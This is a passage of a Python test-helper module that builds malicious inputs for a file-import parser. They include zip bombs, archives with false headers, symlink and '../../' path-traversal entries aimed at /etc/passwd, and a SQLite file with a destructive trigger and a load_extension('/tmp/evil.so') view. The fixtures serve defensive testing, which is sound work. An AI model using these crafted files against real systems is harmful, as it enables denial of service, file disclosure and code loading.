    lines_and_columns,
    numbers,
    encodings,
    texts,
    json_files,
    databases,
    polyglots,
    truncated,
    settings,
)


def _rss(items: str, before: str = "") -> bytes:
    return f'<?xml version="1.0"?>{before}<rss version="2.0"><channel><title>F</title>{items}</channel></rss>'.encode()


def _zone(geometry: str) -> bytes:
    feature = f'{{"type":"Feature","properties":{{"id":"z","kind":"zone","label":"Z"}},"geometry":{geometry}}}'
    return f'{{"type":"FeatureCollection","features":[{feature}]}}'.encode()


def zipped(members: list[tuple[str, bytes]], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    sink = io.BytesIO()
    with zipfile.ZipFile(sink, "w", method) as archive:
        for name, data in members:
            info = zipfile.ZipInfo(name or "x", (2026, 3, 3, 0, 0, 0))
            info.filename = name
            info.compress_type = method
            with contextlib.suppress(ValueError), _quiet():
                archive.writestr(info, data)
    return sink.getvalue()


@contextlib.contextmanager
def _quiet() -> Iterator[None]:
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        yield


def _zip_of_zeros(size: int) -> bytes:
    """A member of zeros, packed without ever being whole in memory."""
    sink = io.BytesIO()
    with (
        zipfile.ZipFile(sink, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
        archive.open(zipfile.ZipInfo("a.csv", (2026, 3, 3, 0, 0, 0)), "w", force_zip64=True) as member,
    ):
        member._compressor = zlib.compressobj(9, zlib.DEFLATED, -15)  # type: ignore[attr-defined]
        for _ in range(size // MIB):
            member.write(bytes(MIB))
    return sink.getvalue()


def _central(name: bytes, crc: int, packed: int, size: int, offset: int) -> bytes:
    return (
        struct.pack(
            "<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, 8, 0, 0x5C63, crc, packed, size, len(name), 0, 0, 0, 0, 0, offset
        )
        + name
    )


def _end(count: int, size: int, offset: int) -> bytes:
    return struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, count, count, size, offset, 0)


def _local(name: bytes, crc: int, packed: int, size: int, flags: int = 0) -> bytes:
    return struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, flags, 8, 0, 0x5C63, crc, packed, size, len(name), 0) + name


def _deflated(data: bytes) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(data) + packer.flush()


def _overlapping(count: int, size: int) -> bytes:
    """Many entries of one kernel of packed zeros (after Fifield 2019, without its quoting)."""
    data = bytes(size)
    packed, crc = _deflated(data), zlib.crc32(data)
    body = _local(b"a.csv", crc, len(packed), size) + packed
    entries = b"".join(_central(f"{n}.csv".encode(), crc, len(packed), size, 0) for n in range(count))
    return body + entries + _end(count, len(entries), len(body))


def _zip_with_wrong_offset() -> bytes:
    data = table(row(1))
    packed, crc = _deflated(data), zlib.crc32(data)
    body = _local(b"a.csv", crc, len(packed), len(data)) + packed
    entry = _central(b"a.csv", crc, len(packed), len(data), 0xFFFFFFF0)
    return body + entry + _end(1, len(entry), len(body))


def _zip_that_lies(size: int) -> bytes:
    data = table(*(row(n) for n in range(1_000)))
    packed, crc = _deflated(data), zlib.crc32(data)
    body = _local(b"a.csv", crc, len(packed), size) + packed
    entry = _central(b"a.csv", crc, len(packed), size, 0)
    return body + entry + _end(1, len(entry), len(body))


def _zip_with_flag() -> bytes:
    data = table(row(1))
    packed, crc = _deflated(data), zlib.crc32(data)
    body = _local(b"a.csv", crc, len(packed), len(data), flags=1) + packed
    entry = bytearray(_central(b"a.csv", crc, len(packed), len(data), 0))
    entry[8] |= 1
    return body + bytes(entry) + _end(1, len(entry), len(body))


def _zip_with_link() -> bytes:
    sink = io.BytesIO()
    with zipfile.ZipFile(sink, "w") as archive:
        info = zipfile.ZipInfo("a.csv", (2026, 3, 3, 0, 0, 0))
        info.external_attr = 0o120777 << 16
        archive.writestr(info, "/etc/passwd")
    return sink.getvalue()


def _gzip_with_name(data: bytes, name: bytes) -> bytes:
    return (
        b"\x1f\x8b\x08\x08\0\0\0\0\0\xff"
        + name
        + b"\0"
        + _deflated(data)
        + struct.pack("<II", zlib.crc32(data), len(data))
    )


def _tar(kind: bytes) -> bytes:
    sink = io.BytesIO()
    with tarfile.open(fileobj=sink, mode="w") as archive:
        info = tarfile.TarInfo("../../evil.csv")
        info.type, info.linkname = kind, "/etc/passwd"
        archive.addfile(info)
    return sink.getvalue()


def _sqlite(*statements: str) -> bytes:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder, "a.db")
        base = sqlite3.connect(path)
        base.executescript(
            "CREATE TABLE gpkg_contents(table_name TEXT); CREATE TABLE t(a); INSERT INTO t VALUES(1);"
            "CREATE TRIGGER evil AFTER INSERT ON t BEGIN DELETE FROM t; END;"
            "CREATE VIEW gpkg_evil AS SELECT load_extension('/tmp/evil.so');" + ";".join(statements)
        )
        base.close()
        return path.read_bytes()


def _parquet(rows: int) -> bytes:
    import pyarrow as pa
    import pyarrow.parquet as pq

    sink = pa.BufferOutputStream()
    part = pa.table({"lat": pa.repeat(0.0, rows)})
    with pq.ParquetWriter(sink, part.schema, compression="zstd") as writer:
        for _ in range(300 if rows > 1_000 else 1):
            writer.write_table(part)
    return bytes(sink.getvalue().to_pybytes())


def _arrow() -> bytes:
    import pyarrow as pa

    sink = pa.BufferOutputStream()
    part = pa.table({"lat": [1.0, 2.0]})
    with pa.ipc.new_stream(sink, part.schema) as writer:
        writer.write_table(part)
    return bytes(sink.getvalue().to_pybytes())


def _xlsx(rows: str) -> bytes:
    sheet = (
        '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    )
    return zipped(
        [
            ("[Content_Types].xml", b"<Types/>"),
            ("xl/workbook.xml", b"<workbook/>"),
            ("xl/worksheets/sheet1.xml", (sheet + rows + "</sheetData></worksheet>").encode()),
        ]
    )
